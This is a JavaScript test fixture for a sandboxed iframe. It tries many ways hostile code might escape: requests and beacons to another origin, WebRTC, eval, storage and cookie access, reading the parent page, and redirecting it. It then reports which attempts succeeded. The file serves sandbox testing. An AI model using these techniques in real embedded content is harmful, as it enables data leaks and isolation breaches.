// What hostile code would try in the frame's window, where nothing of ours but frame.js runs. Put into the
// frame's page by escape_frame.test.mjs; tells the page what got through. What leads to a server is told by that.

const later = globalThis.setTimeout.bind(globalThis);
const element = (name, attributes) => Object.assign(document.createElement(name), attributes);
/** Into the page, and then the event that says how it went. */
const placed = (name, attributes) =>
  new Promise((resolve, reject) => {
    const made = element(name, attributes);
    made.onload = () => resolve('loaded');
    made.onerror = () => reject(new Error('refused'));
    document.documentElement.append(made);
  });
const opens = (request) =>
  new Promise((resolve, reject) => {
    request.onsuccess = () => resolve('opened');
    request.onerror = () => reject(request.error);
  });

/** @param {string} own address on the page's site @param {string} other on another */
const network = (own, other) => ({
  fetchOwn: () => fetch(`${own}fetchOwn`, { mode: 'no-cors' }),
  fetchOther: () => fetch(`${other}fetchOther`, { mode: 'no-cors' }),
  fetchLater: () => void globalThis.fetchLater(`${other}fetchLater`, { activateAfter: 0 }),
  beacon: () => void navigator.sendBeacon(`${other}beacon`, 'x'),
  xhr: () => {
    const x = new XMLHttpRequest();
    x.open('GET', `${other}xhr`, false);
    x.send();
    return x.status;
  },
  webSocket: () => void new WebSocket(`${other}webSocket`.replace('http', 'ws')),
  eventSource: () => void new EventSource(`${other}eventSource`),
  image: () => placed('img', { src: `${other}image` }),
  script: () => placed('script', { src: `${own}script` }),
  module: () => import(`${own}module`),
  style: () => placed('link', { rel: 'stylesheet', href: `${own}style` }),
  prefetch: () => placed('link', { rel: 'prefetch', href: `${other}prefetch` }),
  preload: () => placed('link', { rel: 'preload', as: 'image', href: `${other}preload` }),
  background: () => {
    document.documentElement.style.background = `url(${other}background)`;
    return null;
  },
  font: () => new FontFace('x', `url(${own}font)`).load(),
  video: () => void document.documentElement.append(element('video', { src: `${other}video` })),
  object: () => void document.documentElement.append(element('object', { data: `${other}object` })),
  frame: () => void document.documentElement.append(element('iframe', { src: `${other}frame` })),
  form: () => {
    const form = element('form', { action: `${other}form`, method: 'post' });
    document.documentElement.append(form);
    form.submit();
    return null;
  },
  ping: () => {
    const link = element('a', { href: '#', ping: `${other}ping` });
    document.documentElement.append(link);
    link.click();
    return null;
  },
  popup: () => globalThis.open(`${other}popup`),
  worker: () => void new Worker(`${own}worker`),
  rtc: async () => {
    const { hostname } = new URL(other);
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: `stun:${hostname}:${globalThis.stunPort}` }],
    });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    return null; // packets tell
  },
});

const inside = () => ({
  // biome-ignore lint/security/noGlobalEval: it must throw
  eval: () => globalThis.eval('1'),
  text: () => new Function('return 1')(),
  inlineScript: () => {
    document.documentElement.append(element('script', { textContent: 'globalThis.ran = 1' }));
    return globalThis.ran ?? null;
  },
  markup: () => {
    document.documentElement.innerHTML = '<b>x</b>';
    return 'set';
  },
  policy: () => globalThis.trustedTypes.createPolicy('other', {}),
  cookie: () => {
    // biome-ignore lint/suspicious/noDocumentCookie: that is what is tried
    document.cookie = 'x=1';
    return document.cookie || null;
  },
  localStorage: () => localStorage.length,
  indexedDB: () => opens(indexedDB.open('x')),
  caches: () => caches.open('x').then(() => 'opened'),
  files: () => navigator.storage.getDirectory(),
  locks: () => navigator.locks.request('x', () => 'held'),
  serviceWorker: () => navigator.serviceWorker.register('worker.js'),
  broadcast: () => {
    new BroadcastChannel('attack').postMessage('broadcast');
    return null; // the page listens
  },
  parentDocument: () => parent.document.title,
  parentGlobal: () => Object.keys(parent.wasmai),
});

/** These end the document when they work. */
const leaving = (own, other) => ({
  parentLocation: () => {
    parent.location.href = `${other}parentLocation`;
  },
  selfOther: () => {
    location.href = `${other}selfOther`;
  },
  selfOwn: () => {
    location.href = `${own}selfOwn`;
  },
  refresh: () => {
    const refresh = element('meta', { httpEquiv: 'refresh', content: `0;url=${other}refresh` });
    document.head.append(refresh);
  },
});

async function attack({ own, other }) {
  const all = { ...network(own, other), ...inside() };
  const tried = await Promise.all(
    Object.entries(all).map(async ([name, attempt]) => {
      const giveUp = new Promise((resolve) => later(() => resolve(null), 1000));
      try {
        const got = await Promise.race([(async () => attempt())(), giveUp]);
        return [name, got !== null && got !== undefined];
      } catch {
        return [name, false];
      }
    }),
  );
  parent.postMessage({ tried }, '*');
  for (const leave of Object.values(leaving(own, other))) {
    try {
      leave();
    } catch {
      // refused
    }
    await new Promise((resolve) => later(resolve, 200));
  }
  parent.postMessage({ left: false }, '*');
}

addEventListener('message', ({ data }) => {
  if (!data.attack) return;
  globalThis.stunPort = data.attack.stunPort;
  attack(data.attack);
});
